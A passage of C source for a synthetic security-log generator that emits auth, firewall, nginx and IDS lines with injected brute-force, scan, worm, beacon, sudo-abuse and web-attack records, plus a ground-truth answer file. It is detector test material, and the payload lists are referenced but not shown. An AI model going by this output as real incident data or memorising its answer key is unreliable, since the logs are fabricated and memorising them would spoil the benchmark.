        header(o, g, tc, PRI_AUTHPRIV_NOTICE, PR_SUDO, u, 0);
        sudo_user(o, user);
        sudo_tail(o, u, admin_cmds[r->a], pwd_pick);
        return;
    case K_SUDO_OPEN:
        header(o, g, tc, PRI_AUTHPRIV_INFO, PR_SUDO, u, 0);
        o_s(o, "pam_unix(sudo:session): session opened for user root(uid=0) by ");
        o_s(o, user);
        o_s(o, "(uid=");
        o_u(o, users[u->user].uid);
        o_c(o, ')');
        return;
    case K_SUDO_CLOSE:
        header(o, g, tc, PRI_AUTHPRIV_INFO, PR_SUDO, u, 0);
        o_s(o, "pam_unix(sudo:session): session closed for user root");
        return;
    case K_SUDO_PAM_FAIL:
        header(o, g, tc, PRI_AUTHPRIV_NOTICE, PR_SUDO, u, 0);
        o_s(o, "pam_unix(sudo:auth): authentication failure; logname=");
        o_s(o, user);
        o_s(o, " uid=");
        o_u(o, users[u->user].uid);
        o_s(o, " euid=0 tty=/dev/pts/");
        o_u(o, u->aux);
        o_s(o, " ruser=");
        o_s(o, user);
        o_s(o, " rhost=  user=");
        o_s(o, user);
        return;
    case K_SUDO_INCORRECT:
        header(o, g, tc, PRI_AUTHPRIV_ALERT, PR_SUDO, u, 0);
        sudo_user(o, user);
        o_u(o, r->b);
        o_s(o, " incorrect password attempts ; ");
        sudo_tail(o, u, abuse_cmds[r->a], 3);
        return;
    case K_SUDO_NOT_SUDOERS:
        header(o, g, tc, PRI_AUTHPRIV_ALERT, PR_SUDO, u, 0);
        sudo_user(o, user);
        o_s(o, "user NOT in sudoers ; ");
        sudo_tail(o, u, abuse_cmds[r->a], 3);
        return;
    default:
        return;
    }
}

/* The kernel's MAC= is destination MAC, source MAC and ethertype (IPv4). */
static void o_mac(struct out *o, uint32_t dst24, uint32_t src24)
{
    o_s(o, "52:54:00:");
    for (int i = 2; i >= 0; i--) {
        o_hex(o, (dst24 >> (8 * i)) & 255, 2);
        o_c(o, ':');
    }
    o_s(o, "00:1b:21:");
    for (int i = 2; i >= 0; i--) {
        o_hex(o, (src24 >> (8 * i)) & 255, 2);
        o_c(o, ':');
    }
    o_s(o, "08:00");
}

static void render_nf(struct out *o, const struct gen *g, const struct tcache *tc,
                      const struct rec *r, const struct unit *u)
{
    uint64_t s = r->rnd;
    int64_t up = r->t_us - g->boot_us[u->host];
    uint32_t src = u->src, dst = u->dst;
    unsigned dpt = r->b, spt, ttl, len = 60, win = 64240;
    const char *prefix = "[UFW BLOCK] ", *in = "eth0", *out_if = "";
    int df = 1, proto = 6, syn = 1;

    switch ((enum nf_flavour)r->a) {
    case NF_IN_NOISE_TCP:
        spt = 1024 + (unsigned)lr_below(&s, 64000);
        ttl = 40 + (unsigned)lr_below(&s, 200);
        if (lr_below(&s, 3) == 0) {
            len = 44, win = 1024 + (unsigned)lr_below(&s, 64000), df = 0;
        } else {
            len = 60, win = 29200 + (unsigned)lr_below(&s, 3) * 17520;
        }
        break;
    case NF_IN_NOISE_UDP:
        spt = 1024 + (unsigned)lr_below(&s, 64000);
        ttl = 40 + (unsigned)lr_below(&s, 200);
        proto = 17, df = 0;
        len = 28 + (unsigned)lr_below(&s, 100);
        break;
    case NF_IN_NOISE_ICMP:
        spt = 0;
        ttl = 40 + (unsigned)lr_below(&s, 200);
        proto = 1, df = 0, len = 84;
        break;
    case NF_IN_SCAN:
        if (u->aux) { /* horizontal: fixed port, b holds the destination */
            dst = r->b;
            dpt = u->aux;
        }
        spt = u->port;
        ttl = 40 + (unsigned)(u->src & 15);
        len = 44, win = 1024, df = 0;
        break;
    case NF_OUT_ALLOW:
    case NF_BEACON:
        prefix = "[UFW ALLOW] ", in = "eth1", out_if = "eth0";
        spt = 32768 + (unsigned)lr_below(&s, 28232);
        ttl = 63;
        if (r->a == NF_BEACON)
            dpt = u->aux;
        if (dpt == 53 || dpt == 123) {
            proto = 17, df = 1;
            len = dpt == 53 ? 40 + (unsigned)lr_below(&s, 40) : 76;
        }
        break;
    case NF_WORM:
    default:
        in = "eth1", out_if = "eth2";
        dpt = r->b >> 16; /* port above, low half of the address below */
        dst = ip4(10, 0, 0, 0) | (r->b & 0xffff);
        spt = 49152 + (unsigned)lr_below(&s, 16383);
        ttl = 127, len = 52, win = 8192;
        break;
    }
    header(o, g, tc, PRI_KERN_WARNING, PR_KERNEL, u, 0);
    o_c(o, '[');
    {
        /* "%5lu.%06lu" */
        uint64_t sec = (uint64_t)(up / US);
        int digits = 1;
        for (uint64_t v = sec; v >= 10; v /= 10)
            digits++;
        for (int i = digits; i < 5; i++)
            o_c(o, ' ');
        o_u(o, sec);
        o_c(o, '.');
        o_u0(o, (uint64_t)(up % US), 6);
    }
    o_s(o, "] ");
    o_s(o, prefix);
    o_s(o, "IN=");
    o_s(o, in);
    o_s(o, " OUT=");
    o_s(o, out_if);
    o_s(o, " MAC=");
    o_mac(o, (uint32_t)u->host * 0x10101u + 0x3a0000u, in[3] == '0' ? 0x7f10c2u : 0x0a0b0cu);
    o_s(o, " SRC=");
    o_ip(o, src);
    o_s(o, " DST=");
    o_ip(o, dst);
    o_s(o, " LEN=");
    o_u(o, len);
    o_s(o, " TOS=0x00 PREC=0x00 TTL=");
    o_u(o, ttl);
    o_s(o, " ID=");
    o_u(o, lr_below(&s, 65536));
    if (df)
        o_s(o, " DF");
    if (proto == 6) {
        o_s(o, " PROTO=TCP SPT=");
        o_u(o, spt);
        o_s(o, " DPT=");
        o_u(o, dpt);
        o_s(o, " WINDOW=");
        o_u(o, win);
        o_s(o, syn ? " RES=0x00 SYN URGP=0" : " RES=0x00 ACK URGP=0");
    } else if (proto == 17) {
        o_s(o, " PROTO=UDP SPT=");
        o_u(o, spt);
        o_s(o, " DPT=");
        o_u(o, dpt);
        o_s(o, " LEN=");
        o_u(o, len - 20);
    } else {
        o_s(o, " PROTO=ICMP TYPE=8 CODE=0 ID=");
        o_u(o, lr_below(&s, 65536));
        o_s(o, " SEQ=");
        o_u(o, 1 + lr_below(&s, 20));
    }
}

static void o_page_path(struct out *o, unsigned page, uint32_t aux)
{
    static const char *const words[] = {
        "usb-c+cable",   "coffee+grinder", "women%27s+shoes", "running+jacket",
        "desk+lamp",     "headphones",     "kids%27+books",   "gift+card",
        "espresso",      "backpack",       "4k+monitor",      "o%27neill+wetsuit",
    };
    static const char *const slugs[] = {
        "how-to-choose-a-grinder", "spring-sale-2026", "caring-for-leather",
        "our-new-warehouse",       "shipping-update",  "top-10-gifts",
    };

    switch ((enum page)page) {
    case P_HOME: o_s(o, "/"); return;
    case P_CATALOG: o_s(o, "/products/"); return;
    case P_PRODUCT:
        o_s(o, "/products/");
        o_u(o, 1000 + aux % 4000);
        return;
    case P_SEARCH:
        o_s(o, "/search?q=");
        o_s(o, words[aux % NELEM(words)]);
        if (aux & 0x10000) {
            o_s(o, "&page=");
            o_u(o, 2 + (aux >> 17) % 5);
        }
        return;
    case P_BLOG:
        o_s(o, "/blog/");
        o_s(o, slugs[aux % NELEM(slugs)]);
        return;
    case P_CART: o_s(o, "/cart"); return;
    case P_LOGIN: o_s(o, "/login"); return;
    case P_API:
        o_s(o, "/api/v1/items?page=");
        o_u(o, 1 + aux % 40);
        o_s(o, "&per_page=24");
        return;
    case P_ABOUT: o_s(o, "/about"); return;
    case P_ROBOTS: o_s(o, "/robots.txt"); return;
    case P_SITEMAP: o_s(o, "/sitemap.xml"); return;
    case P_REDIRECT: o_s(o, "/products"); return;
    default: o_s(o, "/"); return;
    }
}

static void render_web(struct out *o, const struct gen *g, const struct tcache *tc,
                       const struct rec *r, const struct unit *u)
{
    uint64_t s = r->rnd;
    const char *method = "GET", *proto = u->http2 ? "HTTP/2.0" : "HTTP/1.1", *ua;
    unsigned status = 200;
    uint64_t size = 0;
    int ref_kind = 0; /* 0 "-", 1 search engine, 2 our page (page in r->b), 3 our home */
    unsigned what = r->a;

    if (g->fmt == FMT_SYSLOG) {
        o_c(o, '<');
        o_u(o, PRI_LOCAL7_INFO);
        o_c(o, '>');
        o_mem(o, tc->syslog, 15);
        o_c(o, ' ');
        o_s(o, host_names[u->host]);
        o_s(o, " nginx: ");
    }
    ua = u->truth >= 0 ? NULL : browser_uas[u->ua];
    o_ip(o, u->src);
    o_s(o, " - ");
    o_c(o, '-');
    o_s(o, " [");
    o_mem(o, tc->clf, 26);
    o_s(o, "] \"");
    if (what >= WEB_SQLI) {
        const char *path;
        unsigned i;
        proto = "HTTP/1.1";
        if (what >= WEB_SCAN) {
            i = what - WEB_SCAN;
            path = scan_paths[i];
            status = i >= NELEM(scan_paths) - 2 ? 200 : (lr_below(&s, 6) ? 404 : 403);
            size = status == 200 ? (i == NELEM(scan_paths) - 1 ? 67 : 18734) : status == 404 ? 153 : 153;
            if (u->ua == 2)
                proto = "HTTP/1.0";
            if (u->ua == 1 && lr_below(&s, 3) == 0)
                method = "HEAD";
        } else if (what >= WEB_CMDI) {
            i = what - WEB_CMDI;
            path = i >= WEB_ENC ? cmdi_enc_paths[(i - WEB_ENC) % NELEM(cmdi_enc_paths)] : cmdi_paths[i % NELEM(cmdi_paths)];
            status = (unsigned[]){200, 200, 403, 500, 400}[lr_below(&s, 5)];
        } else if (what >= WEB_TRAV) {
            i = what - WEB_TRAV;
            path = i >= WEB_ENC ? trav_enc_paths[(i - WEB_ENC) % NELEM(trav_enc_paths)] : trav_paths[i % NELEM(trav_paths)];
            status = (unsigned[]){404, 400, 403, 200, 404}[lr_below(&s, 5)];
        } else {
            i = what - WEB_SQLI;
            path = i >= WEB_ENC ? sqli_enc_paths[(i - WEB_ENC) % NELEM(sqli_enc_paths)] : sqli_paths[i % NELEM(sqli_paths)];
            status = (unsigned[]){200, 500, 403, 200, 500}[lr_below(&s, 5)];
        }
        if (what < WEB_SCAN)
            size = status == 200 ? 2000 + lr_below(&s, 30000) : status == 500 ? 177 : 153;
        o_s(o, method);
        o_c(o, ' ');
        o_s(o, path);
        o_c(o, ' ');
        o_s(o, proto);
        o_s(o, "\" ");
        o_u(o, status);
        o_c(o, ' ');
        o_u(o, size);
        o_s(o, " \"-\" \"");
        if (what >= WEB_SCAN) {
            o_s(o, scanner_uas[u->ua]);
            if (u->ua == 0) { /* Nikto numbers its tests */
                o_u0(o, (uint64_t)r->b % 1000000, 6);
                o_c(o, ')');
            }
        } else {
            o_s(o, g->browser_ua ? browser_uas[u->ua] : attack_uas[u->ua]);
        }
        o_c(o, '"');
        return;
    }
    if (what >= 100) {
        unsigned i = what - 100;
        o_s(o, "GET ");
        o_s(o, assets[i]);
        if (i == 4) {
            o_u(o, 1000 + u->aux % 4000);
            o_s(o, "-400.jpg");
        }
        if (lr_below(&s, 10) < 3) {
            status = 304, size = 0;
        } else {
            static const unsigned base[] = {48211, 183402, 402118, 3121, 30000, 48720, 15086};
            size = base[i] + (i == 4 ? lr_below(&s, 60000) : 0);
        }
        ref_kind = 2;
    } else {
        if (what == P_LOGIN && lr_below(&s, 2)) {
            method = "POST";
            status = 302, size = 0;
        }
        o_s(o, method);
        o_c(o, ' ');
        o_page_path(o, what, u->aux);
        if (what == P_REDIRECT) {
            status = 301, size = 169;
        } else if (status != 302) {
            uint64_t x = lr_below(&s, 1000);
            if (what == P_PRODUCT && x < 25)
                status = 404, size = 4211;
            else if (x == 999)
                status = 500, size = 177;
            else if (x == 998)
                status = 499, size = 0;
            else
                size = what == P_API ? 8000 + lr_below(&s, 30000)
                       : what == P_ROBOTS ? 67
                       : what == P_SITEMAP ? 21455
                       : 12000 + lr_below(&s, 50000);
        }
        ref_kind = what == P_HOME || u->ua >= UA_BOTS_FROM ? (int)lr_below(&s, 2) : 3;
        if (u->ua >= UA_BOTS_FROM)
            ref_kind = 0;
    }
    o_c(o, ' ');
    o_s(o, proto);
    o_s(o, "\" ");
    o_u(o, status);
    o_c(o, ' ');
    o_u(o, size);
    o_s(o, " \"");
    switch (ref_kind) {
    case 1: o_s(o, "https://www.google.com/"); break;
    case 2:
        o_s(o, "https://shop.example.com");
        o_page_path(o, r->b, u->aux);
        break;
    case 3: o_s(o, "https://shop.example.com/"); break;
    default: o_c(o, '-'); break;
    }
    o_s(o, "\" \"");
    o_s(o, ua);
    o_c(o, '"');
}

/* One EVE alert behind an RFC 3164 header (local5), as rsyslog relays eve.json. */
static void render_ids(struct out *o, const struct gen *g, const struct tcache *tc,
                       const struct rec *r, const struct unit *u)
{
    const struct ids_sig *sig = &ids_sigs[u->aux % NELEM(ids_sigs)];
    char iso[TIME_ISO_LEN];
    uint64_t s = r->rnd;

    if (g->fmt == FMT_SYSLOG) {
        o_c(o, '<');
        o_u(o, 21 * 8 + 1 + sig->severity);
        o_c(o, '>');
    }
    o_mem(o, tc->syslog, 15);
    o_s(o, " ids01 suricata[1877]: {\"timestamp\":\"");
    time_format_iso(r->t_us - r->t_us % US, iso, sizeof(iso));
    o_mem(o, iso, 19);
    o_c(o, '.');
    o_u0(o, lr_below(&s, 1000000), 6);
    o_s(o, "+0000\",\"flow_id\":");
    o_u(o, lr_below(&s, 1ULL << 50));
    o_s(o, ",\"in_iface\":\"eth1\",\"event_type\":\"alert\",\"src_ip\":\"");
    o_ip(o, u->src);
    o_s(o, "\",\"src_port\":");
    o_u(o, u->port);
    o_s(o, ",\"dest_ip\":\"");
    o_ip(o, u->dst);
    o_s(o, "\",\"dest_port\":");
    o_u(o, sig->port);
    o_s(o, ",\"proto\":\"");
    o_s(o, sig->proto);
    o_s(o, "\",\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":");
    o_u(o, sig->sid);
    o_s(o, ",\"rev\":2,\"signature\":\"");
    o_s(o, sig->name);
    o_s(o, "\",\"category\":\"");
    o_s(o, sig->category);
    o_s(o, "\",\"severity\":");
    o_u(o, sig->severity);
    o_s(o, "}}");
}

static void render(struct out *o, const struct gen *g, struct tcache *tc, const struct rec *r)
{
    const struct unit *u = &g->units[r->unit];
    enum kind k = (enum kind)r->kind;

    tcache_set(tc, r->t_us / US);
    switch (k) {
    case K_SSH_ACCEPT_PK ... K_SSH_PAM_MORE_NOUSER:
        header(o, g, tc, sshd_pri(k), PR_SSHD, u, u->pid);
        render_sshd(o, r, u);
        break;
    case K_LOGIND_NEW:
        header(o, g, tc, PRI_AUTH_INFO, PR_LOGIND, u, 600 + u->host * 13);
        o_s(o, "New session ");
        o_u(o, u->sess);
        o_s(o, " of user ");
        o_s(o, users[u->user].name);
        o_c(o, '.');
        break;
    case K_LOGIND_LOGOUT:
        header(o, g, tc, PRI_AUTH_INFO, PR_LOGIND, u, 600 + u->host * 13);
        o_s(o, "Session ");
        o_u(o, u->sess);
        o_s(o, " logged out. Waiting for processes to exit.");
        break;
    case K_LOGIND_REMOVED:
        header(o, g, tc, PRI_AUTH_INFO, PR_LOGIND, u, 600 + u->host * 13);
        o_s(o, "Removed session ");
        o_u(o, u->sess);
        o_c(o, '.');
        break;
    case K_SD_SESSION_SCOPE:
        header(o, g, tc, PRI_DAEMON_INFO, PR_SYSTEMD, u, 1);
        o_s(o, "Started session-");
        o_u(o, u->sess);
        o_s(o, ".scope - Session ");
        o_u(o, u->sess);
        o_s(o, " of User ");
        o_s(o, users[u->user].name);
        o_c(o, '.');
        break;
    case K_SD_STARTING:
    case K_SD_FINISHED:
        header(o, g, tc, PRI_DAEMON_INFO, PR_SYSTEMD, u, 1);
        o_s(o, k == K_SD_STARTING ? "Starting " : "Finished ");
        o_s(o, sd_jobs[r->a].unit);
        o_s(o, " - ");
        o_s(o, sd_jobs[r->a].desc);
        o_s(o, k == K_SD_STARTING ? "..." : ".");
        break;
    case K_SD_DEACTIVATED:
        header(o, g, tc, PRI_DAEMON_INFO, PR_SYSTEMD, u, 1);
        o_s(o, sd_jobs[r->a].unit);
        o_s(o, ": Deactivated successfully.");
        break;
    case K_SD_CONSUMED: {
        uint64_t s = r->rnd, ms = 5 + lr_below(&s, 40000);
        header(o, g, tc, PRI_DAEMON_INFO, PR_SYSTEMD, u, 1);
        o_s(o, sd_jobs[r->a].unit);
        o_s(o, ": Consumed ");
        if (ms >= 1000) {
            o_u(o, ms / 1000);
            o_c(o, '.');
            o_u0(o, ms % 1000, 3);
            o_s(o, "s CPU time.");
        } else {
            o_u(o, ms);
            o_s(o, "ms CPU time.");
        }
        break;
    }
    case K_CRON_OPEN:
    case K_CRON_CLOSE: {
        const struct cron_job *j = &cron_jobs[r->a];
        header(o, g, tc, PRI_AUTHPRIV_INFO, PR_CRON, u, u->pid);
        if (k == K_CRON_OPEN) {
            o_s(o, "pam_unix(cron:session): session opened for user ");
            o_s(o, j->user);
            o_s(o, "(uid=");
            o_u(o, j->uid);
            o_s(o, ") by (uid=0)");
        } else {
            o_s(o, "pam_unix(cron:session): session closed for user ");
            o_s(o, j->user);
        }
        break;
    }
    case K_CRON_CMD:
        header(o, g, tc, PRI_CRON_INFO, PR_CRON, u, u->pid);
        o_c(o, '(');
        o_s(o, cron_jobs[r->a].user);
        o_s(o, ") CMD (");
        o_s(o, cron_jobs[r->a].cmd);
        o_c(o, ')');
        break;
    case K_SUDO_CMD ... K_SUDO_NOT_SUDOERS:
        render_sudo(o, g, tc, r, u);
        break;
    case K_NF:
        render_nf(o, g, tc, r, u);
        break;
    case K_WEB:
        render_web(o, g, tc, r, u);
        break;
    case K_IDS:
        render_ids(o, g, tc, r, u);
        break;
    }
    o_c(o, '\n');
}

/*
 * logind numbers sessions per host in the order they start; now that the
 * records are in time order, give each session its number.
 */
static void number_sessions(struct gen *g)
{
    uint32_t next[H_N];

    for (int h = 0; h < H_N; h++)
        next[h] = 100 + (uint32_t)rng_below(&g->rng, 20000);
    for (uint64_t i = 0; i < g->nrecs; i++) {
        const struct rec *r = &g->recs[i];
        if (r->kind == K_LOGIND_NEW) {
            struct unit *u = &g->units[r->unit];
            u->sess = ++next[u->host];
        }
    }
}

static int rec_cmp(const void *pa, const void *pb)
{
    const struct rec *a = pa, *b = pb;

    if (a->t_us != b->t_us)
        return a->t_us < b->t_us ? -1 : 1;
    return a->seq < b->seq ? -1 : a->seq > b->seq;
}

/* --- truth --- */

static void json_iso(FILE *f, int64_t us)
{
    char iso[TIME_ISO_LEN];

    /* Lines carry whole seconds; so does the truth. */
    time_format_iso(us - us % US, iso, sizeof(iso));
    memcpy(iso + 19, "Z", 2);
    fprintf(f, "\"%s\"", iso);
}

static void json_ip(FILE *f, const char *key, uint32_t ip)
{
    fprintf(f, "\"%s\":\"%u.%u.%u.%u\"", key, ip >> 24, (ip >> 16) & 255, (ip >> 8) & 255,
            ip & 255);
}

static int truth_cmp(const void *pa, const void *pb)
{
    const struct truth *const *a = pa, *const *b = pb;

    return (*a)->first_line < (*b)->first_line ? -1 : (*a)->first_line > (*b)->first_line;
}

static int write_truth(const struct gen *g, const char *path, uint64_t attack_lines)
{
    FILE *f = fopen(path, "w");
    const struct truth **order;
    size_t nattacks = 0;
    unsigned by_type[AT_N] = {0};
    uint64_t recs_by_type[AT_N] = {0};

    if (!f) {
        fprintf(stderr, "hikeshi-gen: %s: %s\n", path, strerror(errno));
        return -1;
    }
    order = calloc(g->ntruth + 1, sizeof(*order));
    if (!order) {
        fclose(f);
        return -1;
    }
    for (size_t i = 0; i < g->ntruth; i++)
        order[i] = &g->truth[i];
    qsort(order, g->ntruth, sizeof(*order), truth_cmp);
    for (size_t i = 0, id = 0; i < g->ntruth; i++)
        if (order[i]->records)
            ((struct truth *)(uintptr_t)order[i])->id = (unsigned)++id;
    for (size_t i = 0; i < g->ntruth; i++) {
        const struct truth *t = order[i];

        if (t->records == 0)
            continue; /* cannot happen with sane spans; never claim an empty attack */
        by_type[t->type]++;
        nattacks++;
        recs_by_type[t->type] += t->records;
        fprintf(f, "{\"id\":\"a%u\",\"type\":\"%s\",\"entity\":{", t->id, atype_names[t->type]);
        switch (t->type) {
        case AT_SSH_BF:
            json_ip(f, "source.ip", t->ip1);
            fprintf(f, ",\"host.name\":\"%s\"", host_names[t->host]);
            break;
        case AT_SSH_BF_OK:
            json_ip(f, "source.ip", t->ip1);
            fprintf(f, ",\"user.name\":\"%s\",\"host.name\":\"%s\"", users[t->user].name,
                    host_names[t->host]);
            break;
        case AT_SCAN_V:
            json_ip(f, "source.ip", t->ip1);
            fputc(',', f);
            json_ip(f, "destination.ip", t->ip2);
            break;
        case AT_SCAN_H:
            json_ip(f, "source.ip", t->ip1);
            fprintf(f, ",\"destination.port\":%u", t->port);
            break;
        case AT_WORM:
            json_ip(f, "source.ip", t->ip1);
            break;
        case AT_BEACON:
            json_ip(f, "source.ip", t->ip1);
            fputc(',', f);
            json_ip(f, "destination.ip", t->ip2);
            fprintf(f, ",\"destination.port\":%u", t->port);
            break;
        case AT_SUDO:
            fprintf(f, "\"user.name\":\"%s\",\"host.name\":\"%s\"", users[t->user].name,
                    host_names[t->host]);
            break;
        default: /* web */
            json_ip(f, "source.ip", t->ip1);
            fprintf(f, ",\"host.name\":\"%s\"", host_names[t->host]);
            break;
        }
        fputs("},\"first\":", f);
        json_iso(f, t->first_us);
        fputs(",\"last\":", f);
        json_iso(f, t->last_us);
        fprintf(f, ",\"records\":%" PRIu64 ",\"first_line\":%" PRIu64 ",\"last_line\":%" PRIu64,
                t->records, t->first_line, t->last_line);
        fprintf(f, ",\"expected_incident_type\":\"%s\"", atype_incident[t->type]);
        if (t->parent >= 0)
            fprintf(f, ",\"parent\":\"a%u\"", g->truth[t->parent].id);
        fputs("}\n", f);
    }
    fprintf(f, "{\"summary\":true,\"seed\":%" PRIu64 ",\"records\":%" PRIu64
               ",\"attack_records\":%" PRIu64 ",\"attacks\":%zu,\"format\":\"%s\",\"start\":",
            g->seed, g->nrecs, attack_lines, nattacks, g->fmt == FMT_FILE ? "file" : "syslog");
    json_iso(f, g->start_us);
    fprintf(f, ",\"span\":%" PRId64 ",\"by_type\":{", (int64_t)(g->span_us / US));
    for (int i = 0; i < AT_N; i++)
        fprintf(f, "%s\"%s\":%u", i ? "," : "", atype_names[i], by_type[i]);
    fputs("},\"records_by_type\":{", f);
    for (int i = 0; i < AT_N; i++)
        fprintf(f, "%s\"%s\":%" PRIu64, i ? "," : "", atype_names[i], recs_by_type[i]);
    fputc('}', f);
    /* Only when asked for, so that the default truth keeps its bytes. */
    if (g->encoded_web || g->browser_ua || g->sudo_guess || g->ids_pct > 0)
        fprintf(f, ",\"encoded_web\":%s,\"browser_ua\":%s,\"sudo_guess\":%s,\"ids_noise\":%g",
                g->encoded_web ? "true" : "false", g->browser_ua ? "true" : "false",
                g->sudo_guess ? "true" : "false", g->ids_pct);
    fputs("}\n", f);
    free(order);
    if (fclose(f) != 0) {
        fprintf(stderr, "hikeshi-gen: %s: %s\n", path, strerror(errno));
        return -1;
    }
    return 0;
}

/* --- options --- */

static const char usage[] =
    "usage: hikeshi-gen [OPTIONS]\n"
    "\n"
    "Writes a deterministic, time-ordered mix of auth.log, kern.log (netfilter)\n"
    "and nginx access.log lines with injected attacks.\n"
    "\n"
    "  -s, --seed N          random seed (default 1)\n"
    "  -n, --records N       number of lines (default 1000000)\n"
    "      --start ISO8601   first possible time (default 2026-06-01T00:00:00Z)\n"
    "      --span SECONDS    length of the period (default 86400)\n"
    "  -o FILE               write to FILE instead of standard output\n"
    "  -t, --truth FILE      write the ground truth (JSON lines) to FILE\n"
    "  -f, --format FMT      file (as in the log files, default) or syslog\n"
    "                        (RFC 3164 with <PRI>, as a relay sends them)\n"
    "  -m, --mix LIST        shares of benign lines and attack scale, e.g.\n"
    "                        web=55,ssh=10,cron=3,sudo=3,fw=21,systemd=8,attacks=1\n"
    "      --year Y          the year of --start becomes Y\n"
    "      --last-year       --year of last year (the only option that reads the clock)\n"
    "      --ids-noise PCT   about PCT % of the lines are IDS policy alerts (EVE\n"
    "                        relayed through syslog by ids01; 0 .. 50)\n"
    "      --encoded-web     web attacks percent-encoded, CASE WHEN, ..;/ and friends\n"
    "      --browser-ua      web attacks with ordinary browser user agents\n"
    "      --sudo-guess      sudo abuse as password guessing, never 'NOT in sudoers'\n"
    "      --hard            all four above, with --ids-noise 3\n"
    "  -h, --help            show this help\n";

static int parse_u64(const char *s, uint64_t *ret)
{
    char *end;
    unsigned long long v;

    errno = 0;
    v = strtoull(s, &end, 10);
    if (errno || end == s || *end || s[0] == '-')
        return -EINVAL;
    *ret = v;
    return 0;
}

static int parse_mix(struct gen *g, const char *s)
{
    char buf[512], *save = NULL;

    if (strlen(s) >= sizeof(buf))
        return -EINVAL;
    memcpy(buf, s, strlen(s) + 1);
    for (char *tok = strtok_r(buf, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
        char *eq = strchr(tok, '='), *end;
        double v;
        int found = 0;

        if (!eq)
            return -EINVAL;
        *eq = '\0';
        v = strtod(eq + 1, &end);
        if (end == eq + 1 || *end || v < 0 || v > 1e6)
            return -EINVAL;
        if (strcmp(tok, "attacks") == 0) {
            g->attack_scale = v;
            continue;
        }
        for (int c = 0; c < C_N; c++) {
            if (strcmp(tok, cat_names[c]) == 0) {
                g->mix[c] = v;
                found = 1;
            }
        }
        if (!found)
            return -EINVAL;
    }
    return 0;
}

int main(int argc, char **argv)
{
    static const struct option opts[] = {
        {"seed", required_argument, NULL, 's'},   {"records", required_argument, NULL, 'n'},
        {"start", required_argument, NULL, 'S'},  {"span", required_argument, NULL, 'p'},
        {"truth", required_argument, NULL, 't'},  {"format", required_argument, NULL, 'f'},
        {"mix", required_argument, NULL, 'm'},    {"output", required_argument, NULL, 'o'},
        {"help", no_argument, NULL, 'h'},         {"year", required_argument, NULL, 'Y'},
        {"last-year", no_argument, NULL, 'L'},    {"ids-noise", required_argument, NULL, 'I'},
        {"encoded-web", no_argument, NULL, 'E'},  {"browser-ua", no_argument, NULL, 'B'},
        {"sudo-guess", no_argument, NULL, 'G'},   {"hard", no_argument, NULL, 'H'},
        {NULL, 0, NULL, 0},
    };
    uint64_t year = 0;
    char start_buf[64];
    static const double default_mix[C_N] = {55, 10, 3, 3, 21, 8};
    struct gen g;
    struct out o = {.fd = STDOUT_FILENO};
    struct tcache tc = {.sec = INT64_MIN};
    const char *start = "2026-06-01T00:00:00Z", *truth_path = NULL, *out_path = NULL;
    uint64_t span = 86400, attack_lines = 0;
    int c;

    memset(&g, 0, sizeof(g));
    g.seed = 1;
    g.nrec = 1000000;
    g.attack_scale = 1.0;
    memcpy(g.mix, default_mix, sizeof(g.mix));
    while ((c = getopt_long(argc, argv, "s:n:t:f:m:o:h", opts, NULL)) != -1) {
        switch (c) {
        case 's':
            if (parse_u64(optarg, &g.seed) < 0)
                goto bad;
            break;
        case 'n':
            if (parse_u64(optarg, &g.nrec) < 0 || g.nrec < 1000 || g.nrec > 2000000000)
                goto bad;
            break;
        case 'S':
            start = optarg;
            break;
        case 'p':
            if (parse_u64(optarg, &span) < 0 || span < 600 || span > 366ULL * 86400 * 10)
                goto bad;
            break;
        case 't':
            truth_path = optarg;
            break;
        case 'o':
            out_path = optarg;
            break;
        case 'f':
            if (strcmp(optarg, "file") == 0)
                g.fmt = FMT_FILE;
            else if (strcmp(optarg, "syslog") == 0)
                g.fmt = FMT_SYSLOG;
            else
                goto bad;
            break;
        case 'm':
            if (parse_mix(&g, optarg) < 0)
                goto bad;
            break;
        case 'Y':
            if (parse_u64(optarg, &year) < 0 || year < 1971 || year > 9999)
                goto bad;
            break;
        case 'L': {
            char now[TIME_ISO_LEN];
            time_format_iso((int64_t)time(NULL) * US, now, sizeof(now));
            year = (uint64_t)strtoul(now, NULL, 10) - 1;
            break;
        }
        case 'I': {
            char *end;
            g.ids_pct = strtod(optarg, &end);
            if (end == optarg || *end || !(g.ids_pct >= 0 && g.ids_pct <= 50))
                goto bad;
            break;
        }
        case 'E':
            g.encoded_web = 1;
            break;
        case 'B':
            g.browser_ua = 1;
            break;
        case 'G':
            g.sudo_guess = 1;
            break;
        case 'H':
            g.encoded_web = g.browser_ua = g.sudo_guess = 1;
            if (g.ids_pct == 0)
                g.ids_pct = 3;
            break;
        case 'h':
            fputs(usage, stdout);
            return 0;
        default:
            goto bad;
        }
    }
    if (optind != argc)
        goto bad;
    if (year) {
        /* "YYYY-..." keeps its month, day and time; Feb 29 must exist. */
        if (strlen(start) < 5 || strlen(start) >= sizeof(start_buf) || start[4] != '-')
            goto bad;
        snprintf(start_buf, sizeof(start_buf), "%04u%s", (unsigned)year, start + 4);
        start = start_buf;
    }
    {
        size_t n = 0;
        int64_t us;
        if (time_parse_iso8601(start, strlen(start), 0, &us, &n) < 0 || n != strlen(start)) {
            fprintf(stderr, "hikeshi-gen: --start: not an ISO 8601 time: %s\n", start);
            return 2;
        }
        g.start_us = us - us % US;
    }
    g.span_us = (int64_t)span * US;
    g.size_factor = (double)g.nrec / 1e6;
    if (g.size_factor > 1)
        g.size_factor = 1;
    if (g.size_factor < 0.1)
        g.size_factor = 0.1;
    rng_seed(&g.rng, g.seed);
    for (unsigned i = 0; i < 254; i++) {
        g.atk_ips[i] = ip4(203, 0, 113, i + 1);
        g.atk_ips[254 + i] = ip4(192, 0, 2, i + 1);
        g.c2_ips[i] = ip4(198, 51, 100, i + 1);
    }
    for (size_t i = NELEM(g.atk_ips) - 1; i > 0; i--) {
        size_t j = (size_t)rng_below(&g.rng, i + 1);
        uint32_t t = g.atk_ips[i];
        g.atk_ips[i] = g.atk_ips[j];
        g.atk_ips[j] = t;
    }
    for (size_t i = NELEM(g.c2_ips) - 1; i > 0; i--) {
        size_t j = (size_t)rng_below(&g.rng, i + 1);
        uint32_t t = g.c2_ips[i];
        g.c2_ips[i] = g.c2_ips[j];
        g.c2_ips[j] = t;
    }
    for (int h = 0; h < H_N; h++)
        g.boot_us[h] = g.start_us - rng_range(&g.rng, 2 * 86400, 40 * 86400) * US -
                       (int64_t)rng_below(&g.rng, US);
